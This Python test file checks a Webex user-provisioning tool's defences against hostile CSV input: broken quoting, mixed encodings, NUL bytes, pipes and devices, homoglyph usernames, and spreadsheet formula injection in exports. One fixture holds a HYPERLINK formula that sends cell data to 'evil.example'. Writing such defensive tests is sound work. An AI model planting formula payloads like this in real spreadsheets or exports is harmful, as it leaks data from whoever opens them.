"""Hostile CSV files and exports (issue 22): a file that is not what it seems is refused, never
half-read; a userName nobody could read back is refused by itself; the CSV files the program
writes are safe to open in a spreadsheet.

The commands run as the admin runs them (app.cli.main in-process, or `python -m app` in a
child process where a hang or the memory must be watched), against the Webex sandbox over
loopback; the tenant is looked at afterwards.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app.cli import main
from app.config.store import ProfileStore
from app.directory.csv import reading as csv_reading
from app.sandbox.server import SandboxConfig, SandboxServer
from app.sync.spreadsheet import FORMULA_STARTS
from tests.reliability.support import REPO
from tests.support.sync import COLUMNS, make_profile, make_rows, writes

# A child process gets this long before the test calls it hung (a guard, not a measure).
HANG_GUARD_SECONDS = 120
# The most a refused read may grow the child to (Python and the program's imports included).
MAX_CHILD_RSS_MB = 400


@pytest.fixture
def sandbox() -> Iterator[SandboxServer]:
    with SandboxServer.in_thread(SandboxConfig()) as server:
        yield server


@pytest.fixture
def tenant(sandbox: SandboxServer, private_dirs: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The token in the environment; the folder for the CSV files."""
    monkeypatch.setenv("WEBEX_PROVISIONER_TOKEN", sandbox.tokens.full_admin)
    monkeypatch.setattr(csv_reading, "after_read_hook", None)
    return private_dirs


def csv_text(rows: list[dict[str, str]], columns: list[str] = COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def save_profile(sandbox: SandboxServer, path: Path, **csv_settings: Any) -> None:
    profile = make_profile(sandbox.tenant_url, path)
    assert profile.source.csv is not None
    for key, value in csv_settings.items():
        setattr(profile.source.csv, key, value)
    ProfileStore().save(profile)


def provisioned(sandbox: SandboxServer, rows: list[dict[str, str]], path: Path) -> None:
    """The rows provisioned by a first cycle, as the admin's earlier syncs left them."""
    path.write_text(csv_text(rows), encoding="utf-8")
    save_profile(sandbox, path)
    assert main(["sync", "--profile", "acme"]) == 0
    assert len(active(sandbox)) == len(rows)
    sandbox.reset_requests()


def active(sandbox: SandboxServer) -> dict[str, dict[str, Any]]:
    return {u["userName"]: u for u in sandbox.users() if u.get("active", True)}


def sync(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["sync", "--profile", "acme", *args])
    seen = capsys.readouterr()
    return code, seen.err + seen.out


# -- 1. a file that is not what it seems -------------------------------------------------------


def test_a_2000_row_file_with_one_unclosed_quote_stops_and_disables_nobody(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(2000)
    path = tenant / "users.csv"
    provisioned(sandbox, rows, path)
    capsys.readouterr()

    # Row 1752 (the header is row 1) opens a quote it never closes: read leniently, the 249
    # rows after it would be one cell, and their users disabled.
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[1751] = lines[1751].replace(",Zo", ',"Zo', 1).replace(",J", ',"J', 1)
    assert lines[1751].count('"') == 1, lines[1751]
    path.write_text("".join(lines), encoding="utf-8")

    for args in (("--dry-run",), (), ("--skip-invalid",)):
        code, said = sync(capsys, *args)
        assert code == 2, said
        assert "row 1752" in said and "never closed" in said, said
        assert "Traceback" not in said
    assert writes(sandbox.requests) == []
    assert len(active(sandbox)) == 2000  # nobody disabled


def test_a_utf8_file_with_one_windows_1252_byte_stops_and_updates_nobody(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(30)
    path = tenant / "users.csv"
    provisioned(sandbox, rows, path)
    before = {name: user.get("name") for name, user in active(sandbox).items()}
    capsys.readouterr()

    # An export pieced together: UTF-8 text (accents everywhere), and one row whose "é" was
    # written as the single Windows-1252 byte 0xE9.
    data = csv_text(rows).encode("utf-8")
    lines = data.split(b"\n")
    at = next(n for n in range(15, len(lines)) if "é".encode() in lines[n])
    lines[at] = lines[at].replace("é".encode(), b"\xe9", 1)
    path.write_bytes(b"\n".join(lines))

    code, said = sync(capsys)
    assert code == 2, said
    assert "mixes encodings" in said and f"row {at + 1}:" in said and "CSV UTF-8" in said, said
    assert writes(sandbox.requests) == []
    after = {name: user.get("name") for name, user in active(sandbox).items()}
    assert after == before
    assert "Ã" not in json.dumps(sandbox.users(), ensure_ascii=False)  # no mojibake


def test_a_wholly_windows_1252_file_is_still_read(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(5)
    path = tenant / "users.csv"
    path.write_bytes(csv_text(rows).encode("cp1252"))
    save_profile(sandbox, path)
    code, said = sync(capsys)
    assert code == 0, said
    assert {u["name"]["givenName"] for u in sandbox.users()} >= {"Zoé", "Jérôme"}


@pytest.mark.parametrize("how", ["rewritten in place", "replaced by another file"])
def test_a_file_rewritten_during_the_read_fails_the_cycle(
    sandbox: SandboxServer,
    tenant: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    how: str,
) -> None:
    rows = make_rows(40)
    path = tenant / "users.csv"
    provisioned(sandbox, rows, path)
    capsys.readouterr()
    same_size = path.read_bytes()

    def export_writes_again(read: Path) -> None:
        # The reader has the file's bytes; the export now writes it again (the first rows
        # only, as halfway through), or puts a new file in its place.
        if how == "rewritten in place":
            read.write_text(csv_text(rows[:8]), encoding="utf-8")
        else:
            fresh = read.with_name("users.csv.new")
            fresh.write_bytes(same_size)
            os.replace(fresh, read)

    monkeypatch.setattr(csv_reading, "after_read_hook", export_writes_again)
    code, said = sync(capsys)
    assert code == 2, said
    assert "changed while it was read" in said and "sync again" in said, said
    assert writes(sandbox.requests) == []
    assert len(active(sandbox)) == 40

    monkeypatch.setattr(csv_reading, "after_read_hook", None)  # the export has finished
    code, said = sync(capsys)
    assert code in (0, 3), said  # read whole: a change is planned (or held), never half


def test_a_nul_byte_stops_the_cycle_or_its_row_is_skipped_and_logged_never_sent(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(10)
    path = tenant / "users.csv"
    provisioned(sandbox, rows, path)
    before = active(sandbox)
    capsys.readouterr()

    changed = [dict(row) for row in make_rows(12)]
    changed[3]["givenName"] = "Fran\x00çois"  # row 5: a provisioned user
    changed[10]["displayName"] = "New\x00Comer"  # row 12: a new user
    path.write_text(csv_text(changed), encoding="utf-8")

    code, said = sync(capsys)
    assert code == 2, said
    assert "row 5: column givenName holds the control character U+0000 (NUL)" in said, said
    assert "row 12: column displayName holds the control character U+0000 (NUL)" in said, said
    assert writes(sandbox.requests) == []

    code, said = sync(capsys, "--skip-invalid")
    assert code == 0, said
    after = active(sandbox)
    assert "\x00" not in json.dumps(sandbox.users())
    assert after[rows[3]["userPrincipalName"]] == before[rows[3]["userPrincipalName"]]  # as it was
    assert changed[10]["userPrincipalName"] not in after  # not created
    assert changed[11]["userPrincipalName"] in after  # the valid new row is
    assert main(["logs", "--profile", "acme", "--format", "json"]) == 0
    log = capsys.readouterr().out
    assert "Row 5 of users.csv: column givenName holds the control character U+0000" in log


def run_child(*args: str, timeout: float = HANG_GUARD_SECONDS) -> tuple[int, str, int]:
    """`python -m app ARGS` in a child process: exit code, what it printed, its peak memory
    (MB). The timeout only guards against a hang."""
    probe = (
        "import sys\n"
        "from app.cli import main\n"
        "code = main(sys.argv[1:])\n"
        # VmHWM is this program's own peak: ru_maxrss would also count the test process
        # this child was forked from (Linux keeps it across exec).
        "status = open('/proc/self/status').read().split('VmHWM:')[1]\n"
        "peak = int(status.split()[0]) // 1024\n"
        "print(f'peak-rss-mb={peak}', file=sys.stderr)\n"
        "sys.exit(code)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe, *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
        check=False,
    )
    lines = done.stderr.splitlines()
    peak = next(int(line.split("=")[1]) for line in lines if line.startswith("peak-rss-mb="))
    said = "\n".join(line for line in lines if not line.startswith("peak-rss-mb=")) + done.stdout
    return done.returncode, said, peak


@pytest.mark.skipif(
    not hasattr(os, "mkfifo") or not Path("/proc/self/status").exists(),
    reason="named pipes are POSIX; the peak memory is read from Linux's /proc",
)
@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_a_fifo_or_a_device_is_refused_at_once_without_growing(
    sandbox: SandboxServer, tenant: Path, kind: str
) -> None:
    if kind == "fifo":
        path = tenant / "users.csv"
        os.mkfifo(path)  # nobody ever writes to it: reading it would wait forever
        words = "is a named pipe (FIFO), not a CSV file"
    else:
        path = Path("/dev/zero")  # endless: reading it whole would fill the memory
        words = "/dev/zero is a device, not a CSV file"

    code, said, peak = run_child(
        "profile", "create", "acme", "--tenant-url", sandbox.tenant_url, "--csv-file", str(path)
    )
    assert code == 2, said
    assert words in said and "regular file" in said, said
    assert not ProfileStore().exists("acme")
    assert peak < MAX_CHILD_RSS_MB

    save_profile(sandbox, path)
    code, said, peak = run_child("sync", "--profile", "acme", "--dry-run")
    assert code == 2, said
    assert words in said, said
    assert "Traceback" not in said
    assert peak < MAX_CHILD_RSS_MB
    assert writes(sandbox.requests) == []


def test_a_file_above_the_size_limit_is_refused_before_it_is_read(
    sandbox: SandboxServer,
    tenant: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = tenant / "users.csv"
    path.write_text(csv_text(make_rows(3)), encoding="utf-8")
    with path.open("r+b") as handle:
        handle.truncate(3 * 1024 * 1024)  # 3 MB, sparse: nothing to read but its size

    def never(read: Path) -> None:
        raise AssertionError("the file was read")

    monkeypatch.setattr(csv_reading, "after_read_hook", never)
    save_profile(sandbox, path, max_file_mb=2)
    code, said = sync(capsys, "--dry-run")
    assert code == 2, said
    assert "is 3 MB, more than the limit of 2 MB" in said and "--csv-max-mb" in said, said
    assert sandbox.requests == []


def test_the_size_limit_is_a_profile_setting_of_profile_create_and_set(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tenant / "users.csv"
    path.write_text(csv_text(make_rows(3)), encoding="utf-8")
    url = sandbox.tenant_url
    create = ["profile", "create", "acme", "--tenant-url", url, "--csv-file", str(path)]
    assert main([*create, "--csv-max-mb", "1"]) == 0
    profile = ProfileStore().load("acme")
    assert profile.source.csv is not None and profile.source.csv.max_file_mb == 1
    capsys.readouterr()

    with path.open("r+b") as handle:
        handle.truncate(2 * 1024 * 1024)  # the export grew past the limit
    assert main(["profile", "set", "acme", "--csv-max-mb", "1"]) == 2
    assert "more than the limit of 1 MB" in capsys.readouterr().err
    assert main(["profile", "set", "acme", "--csv-max-mb", "0"]) == 2  # at least 1 MB
    capsys.readouterr()


def test_a_source_that_shrinks_past_the_threshold_is_held_though_the_file_parsed(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(60)
    path = tenant / "users.csv"
    provisioned(sandbox, rows, path)
    profile = ProfileStore().load("acme")
    profile.safety.deletion_threshold_count = 10
    ProfileStore().save(profile)
    capsys.readouterr()

    path.write_text(csv_text(rows[:20]), encoding="utf-8")  # a well-formed file, cut short
    code, said = sync(capsys)
    assert code == 3, said
    assert "held" in said.lower(), said
    assert writes(sandbox.requests) == []
    assert len(active(sandbox)) == 60


# -- 2. userNames nobody could read back -------------------------------------------------------


def test_a_zero_width_user_name_is_refused_by_name_and_the_rest_provisioned(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = make_rows(6)
    rows[2]["userPrincipalName"] = rows[2]["mail"] = "ann\u200b.lee@example.com"
    rows[4]["userPrincipalName"] = rows[4]["mail"] = "p\u0430ul.smith@example.com"  # а: Cyrillic
    path = tenant / "users.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    save_profile(sandbox, path)

    code, said = sync(capsys, "--json")
    assert code in (0, 1), said
    names = {u["userName"] for u in sandbox.users()}
    assert names == {
        r["userPrincipalName"] for n, r in enumerate(rows) if n not in (2, 4)
    }  # the four others provisioned, the two refused not sent
    assert not any("\u200b" in name or "\u0430" in name for name in names)

    assert main(["logs", "--profile", "acme", "--format", "json"]) == 0
    log = capsys.readouterr().out
    assert "Row 4: the userName" in log and "U+200B ZERO WIDTH SPACE" in log, log
    assert "Row 6: the userName" in log and "U+0430 CYRILLIC SMALL LETTER A" in log, log

    # The tenant still lists: the next cycle reads it and has nothing else to do.
    code, said = sync(capsys, "--dry-run", "--json")
    assert code == 0, said
    plan = json.loads(said[said.index("{") :])
    assert plan["counts"].get("Create", 0) == 0


# -- 5. exports safe to open -------------------------------------------------------------------

FORMULA_USER_NAMES = ["=1+2@example.com", "+33@example.com", "-cmd@example.com"]


def formula_tenant(sandbox: SandboxServer, tenant: Path) -> None:
    """A source whose userNames a spreadsheet would run as formulas, synced once."""
    rows = make_rows(4)
    for row, name in zip(rows, FORMULA_USER_NAMES, strict=False):
        row["userPrincipalName"] = row["mail"] = name
    rows[3]["displayName"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tenant / "users.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    save_profile(sandbox, path)
    assert main(["sync", "--profile", "acme"]) == 0


def assert_no_formula(text: str) -> list[list[str]]:
    cells = list(csv.reader(io.StringIO(text)))
    assert len(cells) > 1
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    return cells


@pytest.mark.parametrize("limit", [None, "2"], ids=["whole-log", "newest-rows"])
def test_the_log_exports_neutralise_formula_cells(
    sandbox: SandboxServer, tenant: Path, capsys: pytest.CaptureFixture[str], limit: str | None
) -> None:
    formula_tenant(sandbox, tenant)
    capsys.readouterr()
    args = ["logs", "--profile", "acme", "--format", "csv"]
    assert main(args + (["--limit", limit] if limit else [])) == 0
    cells = assert_no_formula(capsys.readouterr().out)
    flat = [cell for row in cells for cell in row]
    assert "'" + FORMULA_USER_NAMES[-1] in flat  # the newest row: still there, made text
    if limit is None:
        assert {"'" + name for name in FORMULA_USER_NAMES} <= set(flat)

    # JSON exports are unchanged.
    assert main(["logs", "--profile", "acme", "--format", "json"]) == 0
    entries = json.loads(capsys.readouterr().out)
    assert FORMULA_USER_NAMES[0] in {entry["user_name"] for entry in entries}


def test_the_dashboard_log_export_neutralises_formula_cells(
    sandbox: SandboxServer, tenant: Path
) -> None:
    formula_tenant(sandbox, tenant)
    from app.paths import state_file
    from app.sync.state import StateStore

    with StateStore(state_file("acme")) as state:
        text = state.export_log("csv")
    cells = assert_no_formula(text)
    assert "'" + FORMULA_USER_NAMES[0] in {cell for row in cells for cell in row}


def test_the_review_export_of_a_dry_run_neutralises_formula_cells(
    sandbox: SandboxServer, tenant: Path
) -> None:
    rows = make_rows(3)
    for row, name in zip(rows, FORMULA_USER_NAMES, strict=True):
        row["userPrincipalName"] = row["mail"] = name
    path = tenant / "users.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    save_profile(sandbox, path)
    from app.sync.engine import SyncEngine

    async def plan_csv() -> str:
        profile = ProfileStore().load("acme")
        async with SyncEngine(profile, token=sandbox.tokens.full_admin) as engine:
            plan = await engine.dry_run()
        return plan.to_csv()

    cells = assert_no_formula(asyncio.run(plan_csv()))
    keys = {row[2] for row in cells[1:]}
    assert keys == {"'" + name for name in FORMULA_USER_NAMES}
